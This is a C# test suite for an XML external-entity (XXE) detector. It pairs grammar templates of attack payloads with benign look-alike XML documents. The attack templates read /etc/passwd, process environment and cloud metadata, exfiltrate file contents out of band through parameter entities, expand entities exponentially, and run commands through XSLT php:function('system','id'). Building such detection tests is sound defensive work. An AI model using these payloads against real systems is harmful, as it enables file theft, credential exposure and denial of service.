using FunctionShield.Findings;

namespace FunctionShield.Tests.Detection.Suites;

/// <summary>XML 1.0 prologs that fetch or multiply (2.8, 4.2), XInclude, and style sheets that load or run; documents beside them that do not.</summary>
internal static class XxeGrammar
{
    public static ClassSuite Suite { get; } = new()
    {
        Rule = Rule.XxeInput,
        Places = ["body.xml", "body.payload", "query.xml", "body.svg", "body.document", "body.soap"],
        Blocked = 90,
        Alarms = 0,
        AlarmsOfAny = 3,
        Attacks =
        [
            "«head»<!DOCTYPE «root»[<!ENTITY «name» SYSTEM «place»>]><«root»>&«name»;</«root»>", "«head»<!DOCTYPE «root» [<!ELEMENT «root» ANY ><!ENTITY «name» SYSTEM «place» >]><«root»>&«name»;</«root»>", "<!DOCTYPE «root» [ <!ENTITY «name» PUBLIC \"«noun»\" «place»> ]><«root»>&«name»;</«root»>",
            "«head»<!DOCTYPE «root» [<!ENTITY % «name» SYSTEM «remote»> %«name»;]><«root»/>", "«head»<!DOCTYPE «root» [<!ENTITY % file SYSTEM «place»><!ENTITY % «name» SYSTEM «remote»>%«name»;%send;]>", "<!DOCTYPE «root» SYSTEM «remote»><«root»/>", "«head»<!DOCTYPE «root» PUBLIC \"-//«noun»//EN\" «remote»><«root»>«number»</«root»>",
            "<!DOCTYPE «root» [<!ENTITY % «name» '<!ENTITY &#x25; x SYSTEM «remotein»>'>%«name»;]>", "«head»<!DOCTYPE «root»[<!ENTITY «name» SYSTEM «place» NDATA gif>]><«root» src=\"«name»\"/>", "<!doctype «root» [<!entity «name» system «place»>]><«root»>&«name»;</«root»>", "«head»\n<!--«noun»-->\n<!DOCTYPE «root» [\n  <!ENTITY «name»\n    SYSTEM\n    «place»>\n]>\n<«root»>&«name»;</«root»>",
            "«head»<!DOCTYPE «root» [<!ENTITY a \"«noun»\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;\">]><«root»>&d;</«root»>", "<!DOCTYPE «root» [<!ENTITY «name» \"«noun»\"><!ENTITY % p1 \"%p2;%p2;\">]><«root»>&«name»;</«root»>",
            "<«root» xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=«place»/></«root»>", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=«place» parse=\"text\"/>", "<«root»><«name»:include xmlns:«name»='http://www.w3.org/2001/XInclude' href=«place»/></«root»>",
            "«head»<!DOCTYPE svg [<!ENTITY «name» SYSTEM «place»>]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&«name»;</text></svg>", "<soap:Envelope><soap:Body><«root»><![CDATA[<!DOCTYPE doc [<!ENTITY % «name» SYSTEM «remote»> %«name»;]><xxx/>]]></«root»></soap:Body></soap:Envelope>",
            "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:template match=\"/\"><xsl:copy-of select=\"document('«path»')\"/></xsl:template></xsl:stylesheet>", "<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform' xmlns:msxsl='urn:schemas-microsoft-com:xslt'><msxsl:script language='C#'>public string f(){return \"«noun»\";}</msxsl:script></xsl:stylesheet>",
            "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" xmlns:php=\"http://php.net/xsl\"><xsl:value-of select=\"php:function('system','id')\"/></xsl:stylesheet>", "<!DOCTYPE «root» [<!ATTLIST «root» xmlns CDATA #FIXED «remote»><!ENTITY «name» SYSTEM «place»>]>", "«head»<!DOCTYPE «root» SYSTEM «place» []><«root»/>",
            "<!DOCTYPE «root» [<!ENTITY «name» SYSTEM «place»", "<!ENTITY % all \"<!ENTITY send SYSTEM «remotein»>\">%all;", "<!ENTITY «name» SYSTEM «place»>", "<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=«remote»?><!DOCTYPE «root» [<!ENTITY «name» PUBLIC '' «place»>]><«root»/>",
        ],
        Twins =
        [
            "«head»<«root»><id>«number»</id></«root»>", "«head»<«root» id=\"«number»\" name=\"«first»\"/>", "<«root»>Tom &amp; Jerry &lt;b&gt; &#169; &#xa9;</«root»>", "<!DOCTYPE html><html><body><p>«sentence»</p></body></html>", "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html/>",
            "<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\"><plist version=\"1.0\"><dict/></plist>", "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\"><svg/>", "<![CDATA[«sentence» <b>]]>", "<«root» xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:«noun» «noun».xsd\"/>",
            "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><GetOrder><id>«number»</id></GetOrder></soap:Body></soap:Envelope>", "<«root»><!-- «sentence» --></«root»>", "<«root»><include file=\"«noun»\"/></«root»>", "<rss version=\"2.0\"><channel><title>«noun»</title><link>https://«site»/</link></channel></rss>",
            "the DOCTYPE of a «noun» and its ENTITY «number»", "<!-- ENTITY «noun» -->", "SYSTEM \"«noun»\" and PUBLIC \"«noun»\"", "an entity (&«noun»;) in «noun»", "«noun»&«noun»;«noun»", "<!ELEMENT «noun» (#PCDATA)>", "<!DOCTYPE «root»><«root»/>",
            "<?xml-stylesheet type=\"text/css\" href=\"«noun».css\"?><«root»/>", "<jsp:include page=\"«noun».jsp\"/>", "<c:import url=\"/«noun»\"/>", "<a:item href=\"https://«site»\">«noun»</a:item>", "<Project Sdk=\"Microsoft.NET.Sdk\"><ItemGroup><Compile Include=\"«noun».cs\"/></ItemGroup></Project>", "#include \"«noun».h\" // <!«noun»>", "<feed xmlns=\"http://www.w3.org/2005/Atom\"><entry><id>urn:«number»</id></entry></feed>", "entity: «noun», system: «adjective»",
        ],
        Grammar = new TextGrammar
        {
            ["head"] = ["", "<?xml version=\"1.0\"?>", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>", "<?xml version='1.0' standalone='no'?>\n"],
            ["root"] = ["foo", "data", "order", "root", "r", "soapenv", "x", "invoice", "test", "user"],
            ["name"] = ["xxe", "ext", "a", "e", "remote", "dtd", "file", "b", "«key»"],
            ["path"] = ["file:///etc/passwd", "/etc/passwd", "file:///c:/windows/win.ini", "file:///proc/self/environ", "file:///var/task/appsettings.json", "php://filter/convert.base64-encode/resource=index.php", "http://169.254.169.254/latest/meta-data/", "expect://id", "jar:http://«site»/a.jar!/b.txt", "netdoc:/etc/hosts", "ftp://«site»/«noun»", "http://«site»/«noun»", "\\\\«site»\\share\\«noun»", "../../«noun».xml", "gopher://«site»:25/"],
            ["place"] = ["\"«path»\"", "'«path»'"],
            ["remote"] = ["\"http://«site»/«noun».dtd\"", "'https://«site»/«noun».dtd'", "\"ftp://«site»/«noun»\"", "\"http://«site»:«number»/\"", "\"//«site»/«noun».dtd\""],
            ["remotein"] = ["\"http://«site»/?%file;\"", "\"http://«site»/«noun»\""],
        },
    };
}
